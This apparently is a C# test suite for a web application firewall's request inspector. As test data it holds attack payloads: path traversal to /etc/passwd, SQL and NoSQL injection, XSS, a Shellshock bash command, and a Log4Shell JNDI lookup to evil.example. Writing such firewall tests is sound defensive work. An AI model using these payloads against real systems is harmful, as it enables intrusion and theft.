using System.Text.Json;

namespace Gateway.Tests.Waf;

public sealed class RequestInspectorTests
{
    private const string Injection = "' OR 1=1 --";

    [Theory]
    [InlineData("/../../../../etc/passwd")]
    [InlineData("/files/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("/api/products?' OR 1=1 --=1")]
    [InlineData("/api/products?filter[$ne]=1")]
    [InlineData("/api/products?a=%00")]
    public async Task Target_Attack_IsFound(string target) => AssertBlocked(await Probe.InspectAsync(Probe.Request(target)));

    [Theory]
    [InlineData("Cookie", "a=b; id=1%27%20OR%20%271%27=%271")]
    [InlineData("Referer", "https://x.example/?q=<script>alert(1)</script>")]
    [InlineData("User-Agent", "() { :;}; /bin/bash -c 'id'")]
    [InlineData("User-Agent", "sqlmap/1.7 (https://sqlmap.org)")]
    [InlineData("X-Api-Version", "${jndi:ldap://evil.example/a}")]
    [InlineData("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13")]
    [InlineData("Content-Type", "text/plain; charset=utf-7")]
    public async Task Header_Attack_IsFound(string name, string value) => AssertBlocked(await Probe.InspectAsync(Probe.Request("/", (name, value))));

    [Theory]
    [InlineData("Authorization", "Basic ${jndi:ldap://evil.example/a}")]
    [InlineData("traceparent", "' OR 1=1 --")]
    public async Task Header_ThatIsNotLookedAt_IsNot(string name, string value) => Assert.Null(await Probe.InspectAsync(Probe.Request("/", (name, value))));

    [Fact]
    public async Task Json_AttackDeepInsideAndInAName_IsFound()
    {
        var text = JsonSerializer.Serialize(Injection);
        AssertBlocked(await Probe.InspectAsync(Probe.Post("application/json", $$"""{"a": [[{ "b": { "c": [1, {{text}}] } }]] }""")));
        AssertBlocked(await Probe.InspectAsync(Probe.Post("application/merge-patch+json", """{"user":{"$ne":null}}""")));
    }

    [Theory]
    [InlineData("""{"a":"' OR 1=1 --", broken""")]
    [InlineData("""{broken "a":"' OR '1'='1"}""")]
    public async Task Json_ThatIsBroken_IsLookedAtAllTheSame(string json) => AssertBlocked(await Probe.InspectAsync(Probe.Post("application/json", json)));

    [Fact]
    public async Task Json_OneTextLongerThanIsLookedAt_IsLookedAtInItsFirstPart() =>
        AssertBlocked(await Probe.InspectAsync(Probe.Post("application/json", $$"""["../../../../etc/passwd{{new string('/', 100_000)}}"]""")));

    [Fact]
    public async Task Multipart_FieldNameAndFileName_AreFound_AndAFileIsNot()
    {
        AssertBlocked(await Probe.InspectAsync(Multipart("name=\"a\"", Injection)));
        AssertBlocked(await Probe.InspectAsync(Multipart("name=\"a\"; filename=\"../../../../etc/passwd\"", "x")));
        Assert.Null(await Probe.InspectAsync(Multipart("name=\"a\"; filename=\"a.txt\"", Injection)));
    }

    [Theory]
    [InlineData("multipart/form-data")]
    [InlineData("multipart/form-data; boundary")]
    [InlineData("multipart/form-data; boundary=;;=")]
    public async Task Multipart_WithoutABoundary_IsLookedAtAsOneText(string contentType) =>
        AssertBlocked(await Probe.InspectAsync(Probe.Post(contentType, Injection)));

    [Fact]
    public async Task Body_OfAnotherKind_IsNotRead()
    {
        var context = Probe.Post("application/grpc", Injection);

        Assert.Null(await Probe.InspectAsync(context));
        Assert.Equal(0, context.Request.Body.Position);
    }

    [Theory]
    [InlineData(100)]
    [InlineData(200_000)]
    public async Task Body_ThatWasLookedAt_IsStillThere(int length)
    {
        var context = Probe.Post("application/json", $"\"{new string('x', length)}\"");

        Assert.Null(await Probe.InspectAsync(context));

        var body = new MemoryStream();
        await context.Request.BodyReader.CopyToAsync(body);
        Assert.Equal(length + 2, body.Length);
    }

    [Fact]
    public async Task Body_Compressed_IsRefused_AsItCantBeLookedInto()
    {
        var context = Probe.Post("application/json", "{}");
        context.Request.Headers.ContentEncoding = "gzip";

        AssertBlocked(await Probe.InspectAsync(context));
    }

    [Fact]
    public async Task Parameters_TooMany_AreRefused() =>
        AssertBlocked(await Probe.InspectAsync(Probe.Request("/?" + string.Join('&', Enumerable.Range(0, 3000).Select(i => $"a{i}=1")))));

    private static Microsoft.AspNetCore.Http.HttpContext Multipart(string disposition, string content) => Probe.Post(
        "multipart/form-data; boundary=\"x-y\"", $"--x-y\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{content}\r\n--x-y--\r\n");

    private static void AssertBlocked(Gateway.Waf.Inspection.Findings? findings) => Assert.True(findings?.Score >= Probe.Threshold, $"Score: {findings?.Score}");
}
